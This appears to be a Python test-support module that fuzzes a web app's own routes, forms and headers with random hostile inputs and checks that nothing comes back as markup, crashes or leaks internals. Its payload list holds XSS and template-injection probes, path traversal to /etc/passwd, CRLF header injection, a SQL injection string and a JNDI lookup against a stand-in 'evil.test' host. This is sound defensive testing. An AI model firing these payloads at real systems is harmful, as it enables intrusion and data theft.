"""Addresses, forms and headers that no page of ours makes, and what an answer to them must be.

All is made from the routes that there are, so a page that is added is attacked without being told.
"""

from __future__ import annotations

import random
import re
from collections.abc import Sequence
from urllib.parse import quote, urlencode

from aiohttp import web

from tests.support.shipped import LIBRARY

MARK = "q7x"  # begins what must never come back as anything but text
HOSTILE = (
    f"<{MARK}>",
    f'"><{MARK} onload=x>',
    f"'><{MARK}>",
    f"</title><{MARK}>",
    f"<!--<{MARK}>",
    f"javascript:{MARK}",
    f"{{{{{MARK}}}}}",
    "{% include 'base.html.j2' %}",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "\x00",
    "\r\nSet-Cookie: a=b",
    "\u202egnp",
    "\ud800",
    "e\u0301" * 30,
    "9" * 400,
    "-1",
    "1e999",
    "'; drop table entries; --",
    "${jndi:ldap://evil.test}",
    "%00",
    "%s%n",
    "a" * 3000,
    " ",
    "",
    "~",
    "!",
    "🂡🃏" * 20,
)
PARAMETERS = (
    *("book", "w", "a", "u", "ok", "c", "x", "was"),
    *("all", "v", "turn", "fact", "on", "list", "event", "player", "before", "nth"),
    *("q", "f", "topic", "status", "only", "page", "step", "under", "against", "if"),
)
NAMES = (
    *PARAMETERS,
    *("token", "code", "held", "opens", "theme", "size", "entry", "name", "note"),
    *("seats", "players", "time", "penalties", "kind-1", "player-1", "look", "add", "once"),
    *("ruled-oot_bet_or_raise", "reason", "grounds", "who", "keep-0", "since"),
    *("given", "mark", "clear"),
)
HEADERS = (
    "Accept",
    "Accept-Encoding",
    "Accept-Language",
    "Cookie",
    "HX-Request",
    "HX-Target",
    "HX-Current-URL",
    "If-None-Match",
    "If-Modified-Since",
    "Range",
    "Origin",
    "Referer",
    "User-Agent",
    "X-Forwarded-For",
    "X-Forwarded-Proto",
    "Forwarded",
    "X-HTTP-Method-Override",
    "Content-Type",
    "Upgrade",
    "Sec-Fetch-Site",
)
VALUES = (
    "true",
    "gzip",
    "gzip;q=0, *;q=nonsense",
    'W/"x", "y',
    "bytes=0-0,5-1,-",
    "null",
    "http://[",
    "https://evil.test",
    "multipart/form-data; boundary=" + "b" * 100,
    "application/x-www-form-urlencoded; charset=nonsense",
    "application/json",
    "::1, 10.0.0.1, unknown, [",
    'for="_x";proto=https',
    "websocket",
    'a=b; c; =d; e="',
    "Thu, 99 Nov 2026 99:99:99 GMT",
    "é" * 50,
    "\x80\xff",
    "x" * 5000,
    "",
)
SKIPPED = ("/terminal", "/download/", "/static/")  # terminals have a process each: see test_hostile
BROKEN = re.compile(r'Traceback|File "|\.py\b|jinja2|aiohttp|object at 0x', re.IGNORECASE)


class Attacker:
    """Makes requests at random, the same ones for the same seed."""

    def __init__(self, app: web.Application, seed: int) -> None:
        self.rng = random.Random(seed)
        self.paths = {"GET": paths_of(app, "GET"), "POST": paths_of(app, "POST")}
        self.ids = (
            *LIBRARY.rules.facts,
            *LIBRARY.rules.questions,
            *LIBRARY.scenarios,
            *LIBRARY.rules.books,
            *LIBRARY.rules.provisions,
        )

    def words(self) -> str:
        """What stands for a value: hostile, real, both, or nothing that means anything."""
        made = self.rng.choice(HOSTILE), self.rng.choice(self.ids), self.rng.choice(HOSTILE)
        kind = self.rng.randrange(5)
        if kind == 0:
            return made[1]
        if kind == 1:
            return f"{made[1]}:{made[0]}"
        if kind == 2:
            return "".join(chr(self.rng.randrange(1, 0x2FFF)) for _ in range(12))
        return made[0] + (made[2] if kind == 3 else "")

    def path(self, method: str = "GET") -> str:
        """The address of a page, its parts filled in with anything."""
        path = self.rng.choice(self.paths[method])
        if self.rng.random() < 0.1:
            path = "/" + self.words()
        while "{" in path and (part := re.search(r"\{[^}]*\}", path)):
            real = self.rng.random() < 0.7
            word = self.rng.choice(self.ids) if real else self.words()
            path = path[: part.start()] + quoted(word) + path[part.end() :]
        return path if re.fullmatch(r"/[!-~]*", path) else "/" + quoted(path)

    def fields(self, names: Sequence[str]) -> list[tuple[str, str]]:
        """Names and values."""
        return [(self.rng.choice(names), self.words()) for _ in range(self.rng.randrange(8))]

    def query(self) -> str:
        """What stands behind the question mark."""
        return as_form(self.fields(PARAMETERS))[:6000]

    def headers(self) -> list[tuple[str, str]]:
        """Headers that browsers do not send."""
        names = self.rng.sample(HEADERS, self.rng.randrange(1, 5))
        return [(name, self.rng.choice((*VALUES, self.words()))) for name in names]


def paths_of(app: web.Application, method: str) -> list[str]:
    """The addresses that a method has, but for what is not a page."""
    found = {
        route.resource.canonical
        for route in app.router.routes()
        if route.resource is not None and route.method == method
    }
    return sorted(path for path in found if not path.startswith(SKIPPED))


def quoted(words: str) -> str:
    """Words as they stand in a path."""
    return quote(words.encode("utf-8", "surrogatepass"), safe="")


def as_form(fields: Sequence[tuple[str, str]]) -> str:
    """Fields as a form sends them."""
    return urlencode([(name, value.encode("utf-8", "surrogatepass")) for name, value in fields])


def as_bytes(request: str, headers: Sequence[tuple[str, str]], body: bytes = b"") -> bytes:
    """A request as it goes over the wire, whatever is in it."""
    lines = [request, "Host: 127.0.0.1", "Connection: close"]
    lines += [f"{name}: {value}" for name, value in headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    head = "\r\n".join(line.replace("\r", "").replace("\n", "") for line in lines)
    return head.encode("utf-8", "replace") + b"\r\n\r\n" + body


def wrong_with(status: int, text: str, others: Sequence[str] = ()) -> list[str]:
    """What is wrong with an answer; nothing where it is as it must be.

    >>> wrong_with(200, "<p>&lt;q7x&gt;</p>"), wrong_with(500, "<q7x>")
    ([], ['it failed', 'what was sent came back as markup'])
    """
    found = [
        (status >= 500, "it failed"),
        (bool(re.search(rf"<{MARK}|href=.javascript", text, re.IGNORECASE)), MARKUP),
        (status >= 400 and bool(BROKEN.search(told_by(text))), "it tells of its inside"),
    ]
    found += [(one in text, f"it tells of another's {one}") for one in others]
    return [words for is_so, words in found if is_so]


MARKUP = "what was sent came back as markup"


def told_by(text: str) -> str:
    """What a page says by itself: without what was sent to it and is kept in its form."""
    return re.sub(r'value="[^"]*"|<dd>.*?</dd>|<dt>.*?</dt>', "", text, flags=re.DOTALL)
